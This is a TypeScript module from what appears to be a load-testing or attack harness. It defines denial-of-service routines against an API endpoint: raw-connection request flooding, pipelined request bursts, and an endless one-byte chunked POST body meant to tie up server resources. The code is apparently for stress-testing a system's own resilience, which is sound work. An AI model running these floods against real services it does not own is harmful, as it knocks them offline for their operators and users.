import { type Attack, type AttackContext, loop } from "../attack.ts";
import { effort } from "../effort.ts";
import { RawConnection } from "../raw-connection.ts";
import { httpRequest } from "../raw-http.ts";

type MakeRequest = (context: AttackContext) => Promise<string>;

/** The same request as fast as the server takes it; answers are read and forgotten. */
export function flooding(name: string, connections: number, request: MakeRequest): Attack {
  return {
    name,
    token: "one",
    async run(context) {
      const text = await request(context);
      await loop(connections, context.signal, async () => {
        await (await RawConnection.open(context.endpoints.api)).drain().flood(text, context.signal);
      });
    },
  };
}

/** As many requests at once as a connection may send, and the next when all of them are answered. */
export function answered(name: string, connections: number, inFlight: number, request: MakeRequest): Attack {
  return {
    name,
    token: "one",
    async run(context) {
      const { endpoints, signal } = context;
      const requests = (await request(context)).repeat(inFlight);
      await loop(connections, signal, async () => {
        const connection = await RawConnection.open(endpoints.api);
        while (!signal.aborted && !connection.closed) {
          void connection.write(requests);
          await connection.readTimes("HTTP/1.1 ", inFlight);
          effort.rounds += 1;
        }
      });
    },
  };
}

/** A body of chunks of one byte that does not end, again and again. */
export async function oneByteChunks(
  { endpoints: { api }, signal }: AttackContext,
  authorization: Readonly<Record<string, string>>,
): Promise<void> {
  const headers = { ...authorization, "Transfer-Encoding": "chunked", "Content-Type": "application/json" };
  const chunks = "1\r\n \r\n".repeat(10_000);
  await loop(16, signal, async () => {
    const connection = (await RawConnection.open(api)).drain();
    await connection.write(httpRequest(api, "POST", "/api/send", headers));
    await connection.flood(chunks, signal);
  });
}
